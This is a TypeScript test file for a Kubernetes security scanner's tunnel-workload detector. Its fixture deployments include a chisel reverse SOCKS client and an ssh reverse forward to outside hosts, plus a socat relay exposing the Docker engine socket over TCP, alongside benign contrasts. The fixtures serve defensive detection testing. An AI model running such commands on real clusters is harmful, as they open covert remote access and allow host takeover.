import { mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Finding } from '@shared/domain/finding.js';
import { runKubeScan } from '../../../electron/engine/kube/kube-scan.js';
import {
  deployment,
  namespace,
  pod,
  startFakeKubeApi,
  writeKubeconfig,
  type FakeKubeApi,
  type PodSpecInput,
} from '../../helpers/fake-kube-api/index.js';

/**
 * Tunnels deployed as workloads, listed from the fake API server: the tool named by the command, by the image's
 * name when the spec gives no command, an ssh reverse forward, a socat relay of the node's engine socket; beside
 * them an ingress agent, a loopback proxy sidecar and ssh as a git client.
 */
let api: FakeKubeApi;
let dir: string;
let findings: Finding[];

beforeAll(async () => {
  api = await startFakeKubeApi({ tokens: { t: { name: 'analyst', groups: [] } } });
  dir = mkdtempSync(path.join(os.tmpdir(), 'kube-tunnel-'));
  api.put(namespace('edge'));
  const dep = (name: string, containers: PodSpecInput['containers']) =>
    api.put(deployment('edge', name, { containers }), { manager: 'kubectl-create' });
  dep('chisel', [
    { name: 'c', image: 'docker.io/jpillora/chisel:1.9.1', args: ['client', 'https://203.0.113.9', 'R:socks'] },
  ]);
  dep('relay', [
    {
      name: 'r',
      image: 'alpine/socat:1.8',
      command: ['socat'],
      args: ['TCP-LISTEN:2375,fork', 'UNIX-CONNECT:/var/run/docker.sock'],
    },
  ]);
  dep('backhaul', [
    {
      name: 'b',
      image: 'registry.example/tools:3',
      command: ['/usr/bin/ssh', '-N', '-R', '2222:localhost:22', 'u@203.0.113.5'],
    },
  ]);
  dep('ingress', [
    { name: 'cf', image: 'cloudflare/cloudflared:2024.6.1', args: ['tunnel', '--no-autoupdate', 'run'] },
  ]);
  dep('proxy', [
    { name: 'p', image: 'alpine/socat:1.8', command: ['socat', 'TCP-LISTEN:8081,fork', 'TCP:127.0.0.1:8080'] },
  ]);
  api.put(
    pod('edge', 'mirror', {
      containers: [
        {
          name: 'git',
          image: 'alpine/git:2.45',
          command: ['ssh', '-p', '2222', 'git@203.0.113.10', 'git-upload-pack', 'a.git'],
        },
      ],
    }),
  );
  const env = {
    KUBECONFIG: writeKubeconfig(path.join(dir, 'config'), [{ name: 'prod', api, user: { token: 't' } }]),
  };
  findings = (await runKubeScan({ context: 'prod', env })).result.findings.filter(
    (f) => f.detector === 'kube-tunnel-workload',
  );
});

afterAll(async () => {
  await api?.close();
  rmSync(dir, { recursive: true, force: true });
});

describe('kube-tunnel-workload', () => {
  it('reports each tunnel workload once, one step milder than a tunnel started inside a running service', () => {
    const got = Object.fromEntries(findings.map((f) => [f.workload?.name, [f.severity, f.cause]]));
    expect(got).toEqual({
      chisel: ['medium', 'chisel'],
      relay: ['high', 'socat:engine-socket'],
      backhaul: ['medium', 'ssh:-R'],
      ingress: ['low', 'cloudflared'],
      proxy: ['low', 'socat:relay'],
    });
    const relay = findings.find((f) => f.workload?.name === 'relay')!;
    expect(relay.attack).toEqual(expect.arrayContaining(['T1090', 'T1611', 'T1610']));
    expect(relay.evidence[0]!.excerpt).toContain('UNIX-CONNECT:/var/run/docker.sock');
  });
});
